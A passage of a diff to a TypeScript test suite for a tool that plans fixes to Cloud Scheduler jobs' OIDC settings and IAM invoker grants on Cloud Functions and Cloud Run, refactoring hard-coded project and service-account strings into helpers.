+      () => observed([{ name: JOB(), job: job('j1', `${RUN_HASH_URL('nope')}/`, { oidc: { sa: SA } }), targetError: 'no Cloud Run service serves it' }], []),
       {},
       'job.uri',
       /no Cloud Run service/
@@ -621,7 +632,7 @@ describe('blockers and warnings', () => {
     ['a job calling some other host', () => observed([{ name: JOB(), job: job('j1', 'https://example.com/hook', { oidc: { sa: SA } }) }], []), {}, 'job.uri'],
     [
       'a Pub/Sub job',
-      () => observed([{ name: JOB(), job: { name: JOB(), state: 'ENABLED', pubsubTarget: { topicName: 'projects/my-proj/topics/t' } } }], []),
+      () => observed([{ name: JOB(), job: { name: JOB(), state: 'ENABLED', pubsubTarget: { topicName: `projects/${P}/topics/t` } } }], []),
       {},
       'job.type'
     ]
@@ -636,7 +647,8 @@ describe('blockers and warnings', () => {
     if (text) expect(`${c!.found} ${c!.expected} ${c!.remedy ?? ''}`).toMatch(text)
     expect(hasBlocker(jp)).toBe(true)
     // Nothing fix mode would write on the job's token where the token itself is blocked.
-    if (id === 'job.audience' || id === 'job.read' || id === 'job.type' || id === 'job.service_account' || id === 'job.token') expect(p.patches).toEqual([])
+    if (id === 'job.audience' || id === 'job.read' || id === 'job.type' || id === 'job.service_account' || id === 'job.token')
+      expect(oidcChanges(p)).toEqual([])
     // A job that calls something else is neither patched nor granted anything on the named target.
     if (id === 'job.uri') expect(p.changes.filter(ch => ch.job === jp.job && ch.kind !== 'iam.service_agent')).toEqual([])
   })
@@ -650,17 +662,17 @@ describe('blockers and warnings', () => {
   })
 
   it("a job signing as an account of another project → a warning citing Google's same-project rule, nothing to change", () => {
-    const other = 'invoker@shared-proj.iam.gserviceaccount.com'
-    const t = gen1({ policy: policy(bind(CF_INVOKER, `serviceAccount:${other}`)) })
+    const other = SA_OF('invoker', 'shared-proj')
+    const t = gen1({ policy: policy(bind(CF_INVOKER, MEMBER(other))) })
     const p = plan(one(t, job('j1', FN1_URL, { oidc: { sa: other, aud: FN1_URL } })), settings())
     expect(byId(p.jobs[0])['job.service_account']).toMatchObject({ severity: 'warning', found: other, expected: `a service account of ${P}` })
-    expect(byId(p.jobs[0])['job.service_account']!.remedy).toMatch(/must be in the job's project \(my-proj\), and .* is in shared-proj/)
+    expect(byId(p.jobs[0])['job.service_account']!.remedy).toMatch(new RegExp(`must be in the job's project \\(${P}\\), and .* is in shared-proj`))
     expect(notOk(p.jobs[0])).toEqual(['job.service_account'])
     expect(p.changes).toEqual([])
   })
 
   it('invoker_service_account of another project → the repair is planned, and its remedy carries the same caution', () => {
-    const other = 'invoker@shared-proj.iam.gserviceaccount.com'
+    const other = SA_OF('invoker', 'shared-proj')
     const p = plan(one(gen1(), job('j1', FN1_URL, { oidc: { sa: SA, aud: FN1_URL } })), settings({ invoker_service_account: other }))
     expect(byId(p.jobs[0])['job.service_account']).toMatchObject({ severity: 'error', fixedBy: 'job.oidc', expected: other })
     expect(byId(p.jobs[0])['job.service_account']!.remedy).toMatch(/--oidc-service-account-email invoker@shared-proj.* must be in the job's project/)
@@ -686,20 +698,18 @@ describe('blockers and warnings', () => {
 
   it('a job that failed to read does not stop the others', () => {
     const good = job('j2', FN1_URL, { oidc: { sa: SA, aud: FN1_URL } })
-    const p = plan(
-      observed(
-        [
-          { name: JOB('j1'), error: 'Failed to read job: (403) PERMISSION_DENIED' },
-          { name: good.name, job: good, target: FN1 }
-        ],
-        [gen1({ policy: policy() })]
-      ),
-      settings({ job: 'j1,j2' })
+    const o = observed(
+      [
+        { name: JOB('j1'), error: 'Failed to read job: (403) PERMISSION_DENIED' },
+        { name: good.name, job: good, target: FN1 }
+      ],
+      [gen1({ policy: policy() })]
     )
+    const p = plan(o, settings({ job: 'j1,j2' }))
     expect(p.jobs.map(j => j.job)).toEqual([JOB('j1'), JOB('j2')])
     expect(hasBlocker(p.jobs[0])).toBe(true)
     expect(hasBlocker(p.jobs[1])).toBe(false)
-    expect(p.grants).toEqual([{ resource: FN1, api: 'gen1', role: CF_INVOKER, members: [M] }])
+    expect(grantsOf(p, o)).toEqual([{ resource: FN1, api: GEN1_IAM, role: CF_INVOKER, members: [M] }])
     expect(p.changes.every(c => c.job === JOB('j2'))).toBe(true)
   })
 })
